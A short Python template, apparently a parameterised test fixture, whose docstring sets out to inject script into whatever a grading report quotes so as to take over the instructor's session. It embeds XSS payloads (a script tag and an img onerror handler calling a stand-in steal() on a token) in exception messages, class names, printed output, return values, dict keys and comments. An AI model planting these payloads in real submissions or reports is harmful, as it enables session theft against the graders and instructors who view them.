"""Put a script into whatever a report quotes: $EACH.

gains: the instructor's session, in the page that the instructor opens
canary: page
control: unescaped
each: exception class printed answer key source
sample: exception
"""

TAG = "<script>steal('$TOKEN')</script><img src=x onerror=\"steal('$TOKEN')\">"


def raises(error):
    raise error


def double(x):
    return {
        "exception": lambda: raises(ValueError(TAG)),
        "class": lambda: raises(type(TAG, (Exception,), {})("x")),
        "printed": lambda: print(TAG),
        "answer": lambda: TAG,
        "key": lambda: {TAG: 1},
        "source": lambda: raises(ValueError("x")), # <script>steal('$TOKEN')</script>
    }["$EACH"]()
